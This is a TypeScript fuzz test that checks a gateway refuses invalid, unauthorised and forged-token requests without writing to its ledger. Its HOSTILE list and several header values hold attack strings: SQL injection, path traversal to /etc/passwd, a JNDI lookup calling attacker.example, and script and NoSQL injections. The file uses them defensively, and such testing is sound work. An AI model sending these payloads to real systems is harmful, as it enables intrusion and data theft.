import { randomBytes } from 'node:crypto';
import { expect } from 'chai';
import type { LedgerConnection } from '@threadseal/ledger-client';
import { fixtureDsi, httpsAgent, httpsJson, type JsonResponse } from '@threadseal/test-support';
import { LedgerSessions } from '@threadseal/test-support/ledger';
import { closeConnections, connectAs } from '../fixtures/ledger';
import {
  orgCaPem,
  restAs,
  startOrgGateway,
  stopGateways,
  userCredential,
  type GatewayProcess,
  type RestCall,
} from '../fixtures/gateways';
import { testNetwork } from '../fixtures/network-fixture';

type Json = Record<string, unknown>;

/** Strings an attacker tries: control characters, unicode tricks, injections, traversal, sheer length. */
const HOSTILE = [
  '',
  '\u0000',
  "' OR '1'='1",
  '"; DROP TABLE licenses; --',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.example/x}',
  '<script>alert(1)</script>',
  '\u202Eevil\u202C',
  '𝕋𝕙𝕣𝕖𝕒𝕕🧵',
  'A'.repeat(5_000),
  '%00%2e%2e%2f',
  '{"$gt":""}',
];

const WRONG_TYPES: readonly unknown[] = [null, 12345, -1.5, true, [], {}, 'not-the-type', [1, 2, 3]];

/** A bounded corpus of invalid bodies for one request schema: missing, mistyped and hostile members. */
function invalidBodies(schema: Json): unknown[] {
  const example = ((schema['examples'] as unknown[] | undefined)?.[0] ?? {}) as Json;
  const properties = (schema['properties'] ?? {}) as Record<string, Json>;
  const required = (schema['required'] ?? []) as string[];
  const out: unknown[] = [null, [], 'text', 42, true];
  for (const name of required) {
    out.push(Object.fromEntries(Object.entries(example).filter(([key]) => key !== name)));
  }
  for (const [name, property] of Object.entries(properties)) {
    const type = property['type'];
    for (const wrong of WRONG_TYPES) {
      const matches =
        (type === 'string' && typeof wrong === 'string') ||
        (type === 'integer' && Number.isInteger(wrong)) ||
        (type === 'boolean' && typeof wrong === 'boolean') ||
        (type === 'object' && typeof wrong === 'object' && wrong !== null && !Array.isArray(wrong)) ||
        (type === 'array' && Array.isArray(wrong)) ||
        (Array.isArray(type) && wrong === null);
      if (!matches && required.includes(name)) out.push({ ...example, [name]: wrong });
    }
    // Members with a pattern (ids, digests, base64) refuse every hostile string.
    if (type === 'string' && typeof property['pattern'] === 'string' && required.includes(name)) {
      for (const hostile of HOSTILE) out.push({ ...example, [name]: hostile });
    }
  }
  return out;
}

describe('a bounded fuzz run over the OEM gateway’s OpenAPI document, with legitimate traffic alongside', function () {
  const run = randomBytes(3).toString('hex');
  const plm = `plm-fuzz-${run}`;
  let oem: GatewayProcess;
  let audit: LedgerConnection;
  let dsiId = '';
  const as: Record<string, RestCall> = {};
  /** Bearer tokens the gateway must refuse: expired, issued by another org's gateway, forged. */
  const tokens: Record<string, string> = {};

  before(async function () {
    await testNetwork().registerUser('oem', plm, { role: 'ip-admin' });
    // Tokens live one second here, so the run can hold an expired one.
    oem = await startOrgGateway(
      'oem',
      `fuzz-${run}`,
      [plm],
      undefined,
      { maxBodyBytes: 256 * 1024 },
      testNetwork(),
      undefined,
      { tokens: { ttlSeconds: 1 } },
    );
    as['plm'] = restAs(oem, 'oem', plm);
    const manufacturer = await startOrgGateway('manufacturer', `fuzz-${run}`, []);
    const foreign = await restAs(manufacturer, 'manufacturer', 'license-admin')('POST', '/v1/tokens', {});
    expect(foreign.status, foreign.text).to.equal(201);
    tokens['otherOrg'] = (foreign.body as { token: string }).token;
    const own = await as['plm']('POST', '/v1/tokens', {});
    expect(own.status, own.text).to.equal(201);
    const expired = (own.body as { token: string }).token;
    // Wait until the gateway itself refuses it (bounded), not a fixed sleep.
    for (let i = 0; i < 100; i++) {
      const who = await as['plm']('GET', '/v1/whoami', undefined, { authorization: `Bearer ${expired}` });
      if (who.status === 401) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    tokens['expired'] = expired;
    const [prefix, payload] = expired.split('.') as [string, string];
    tokens['forged'] = `${prefix}.${payload}.${'A'.repeat(43)}`;
    as['engineer'] = restAs(oem, 'oem', 'engineer');
    as['ipAdmin'] = restAs(oem, 'oem', 'ip-admin');
    audit = connectAs({ org: 'oem', user: 'ip-admin' });
    const registration = fixtureDsi(`fuzz ${run}`, 'FUZZ-1').signedBy(
      new LedgerSessions(testNetwork().connectionFile).dsiSigner('oem', plm),
    );
    const registered = await as['plm']('POST', '/v1/dsis', registration);
    expect(registered.status, registered.text).to.equal(200);
    dsiId = registration.dsiId;
  });
  after(async function () {
    await stopGateways();
    closeConnections();
  });

  it('answers every invalid request with a 4xx (or refuses its TLS handshake), writes nothing, and serves the legitimate reads', async function () {
    const openapi = (await (as['plm'] as RestCall)('GET', '/openapi.json')).body as {
      paths: Record<
        string,
        Record<
          string,
          {
            requestBody?: { content: Record<string, { schema: { $ref?: string } }> };
            parameters?: { in: string; name: string }[];
          }
        >
      >;
      components: { schemas: Record<string, Json> };
    };
    type Attempt = {
      who: string;
      method: string;
      path: string;
      body?: unknown;
      headers?: Record<string, string>;
    };
    const corpus: Attempt[] = [];
    for (const [template, operations] of Object.entries(openapi.paths)) {
      for (const [method, operation] of Object.entries(operations)) {
        const params = (operation.parameters ?? []).filter((p) => p.in === 'path');
        if (template === '/v1/events' || template.startsWith('/dashboard')) continue;
        // Any enrolled caller may ask for a token (with an empty body, whatever its headers): nothing here is
        // invalid to send; its refusals (bad bodies, refused tokens) are unit tests (tokens-and-limits).
        if (template === '/v1/tokens') continue;
        if (method === 'get') {
          if (params.length === 0) continue;
          for (const hostile of HOSTILE.filter((h) => h.length > 0)) {
            const path = template.replace(/\{[^}]+\}/g, encodeURIComponent(hostile));
            corpus.push({ who: 'plm', method: 'GET', path });
          }
          continue;
        }
        const ref = operation.requestBody?.content['application/json']?.schema.$ref;
        const schema = ref ? openapi.components.schemas[ref.split('/').pop() ?? ''] : undefined;
        const path = template.replace(/\{[^}]+\}/g, 'AAAAAAAAAAAAAAAAAAAAAAAA');
        for (const body of schema ? invalidBodies(schema) : [{}, null, { signature: 'x' }]) {
          corpus.push({ who: 'plm', method: 'POST', path, body });
        }
        // Well-formed bodies from callers who may not send them: the wrong role, a caller without custody.
        const example = (schema?.['examples'] as unknown[] | undefined)?.[0];
        // The custodial ip-admin's own well-formed requests, but with a refused bearer token: none may run.
        for (const token of Object.values(tokens)) {
          corpus.push({
            who: 'plm',
            method: 'POST',
            path,
            body: example ?? {},
            headers: { authorization: `Bearer ${token}` },
          });
        }
        if (example !== undefined) {
          corpus.push({ who: 'engineer', method: 'POST', path, body: example });
          corpus.push({ who: 'ipAdmin', method: 'POST', path, body: example });
          corpus.push({
            who: 'engineer',
            method: 'POST',
            path: '/v1/transactions/prepare',
            body: { transaction: 'license:Issue', input: example },
          });
        }
        for (const text of ['{', '{"a":}', '\u0000', '{"a":1}}', 'NaN', '[1,2', '"\\ud800"']) {
          corpus.push({ who: 'plm', method: 'POST', path, body: text });
        }
        corpus.push({
          who: 'plm',
          method: 'POST',
          path,
          body: JSON.stringify({ pad: 'x'.repeat(300 * 1024) }),
        });
        corpus.push({
          who: 'plm',
          method: 'POST',
          path,
          body: '{}',
          headers: { 'content-type': 'text/plain' },
        });
        corpus.push({
          who: 'plm',
          method: 'POST',
          path,
          body: '{}',
          headers: { 'x-threadseal-after-block': 'DROP' },
        });
        corpus.push({
          who: 'plm',
          method: 'POST',
          path,
          body: '{}',
          headers: { 'idempotency-key': '../../etc' },
        });
      }
    }
    expect(corpus.filter((a) => a.headers?.['authorization'] !== undefined).length).to.be.greaterThan(30);
    expect(corpus.length).to.be.within(200, 1_500);

    // Credentials the gateway must refuse at the TLS handshake: none, and another org's.
    const anonymous = httpsAgent({ ca: orgCaPem('oem') });
    const otherOrg = httpsAgent({ ...userCredential('manufacturer', 'license-admin'), ca: orgCaPem('oem') });
    const refusedHandshakes = await Promise.all(
      [anonymous, otherOrg].map((agent) =>
        httpsJson(agent, oem.url, 'POST', '/v1/licenses', {}).then(
          () => false,
          () => true,
        ),
      ),
    );
    anonymous.destroy();
    otherOrg.destroy();
    expect(refusedHandshakes).to.deep.equal([true, true]);

    const heightBefore = await audit.peerHeight();
    const answers: JsonResponse[] = [];
    const legitimate: JsonResponse[] = [];
    let next = 0;
    const worker = async () => {
      for (let i = next++; i < corpus.length; i = next++) {
        const attempt = corpus[i] as Attempt;
        answers.push(
          await (as[attempt.who] as RestCall)(attempt.method, attempt.path, attempt.body, attempt.headers),
        );
      }
    };
    let fuzzing = true;
    const reader = async () => {
      while (fuzzing) legitimate.push(await (as['plm'] as RestCall)('GET', `/v1/dsis/${dsiId}`));
    };
    const readers = [reader(), reader()];
    await Promise.all(Array.from({ length: 8 }, worker));
    fuzzing = false;
    await Promise.all(readers);
    await new Promise((r) => setTimeout(r, 500));

    const byStatus: Record<number, number> = {};
    for (const a of answers) byStatus[a.status] = (byStatus[a.status] ?? 0) + 1;
    console.log(
      `    ${answers.length} invalid requests answered ${JSON.stringify(byStatus)}; ${legitimate.length} legitimate reads`,
    );
    expect(answers).to.have.length(corpus.length);
    expect(answers.filter((a) => a.status >= 500).map((a) => a.text)).to.deep.equal([]);
    expect(answers.filter((a) => a.status < 400).map((a) => a.text)).to.deep.equal([]);
    const tokenAnswers = answers.filter((a) => /bearer token/.test(a.text));
    expect(tokenAnswers.length).to.be.greaterThan(30);
    for (const a of tokenAnswers) expect([401, 403], a.text).to.include(a.status);
    for (const a of answers) {
      expect((a.body as { code?: unknown }).code, a.text).to.be.a('string');
      expect(a.text).not.to.match(/\/work\/|\.js:\d|127\.0\.0\.1:\d|peer0\./);
    }
    expect(await audit.peerHeight()).to.equal(heightBefore);
    expect(legitimate.length).to.be.greaterThan(0);
    expect(legitimate.filter((r) => r.status !== 200).map((r) => r.text)).to.deep.equal([]);
  });
});
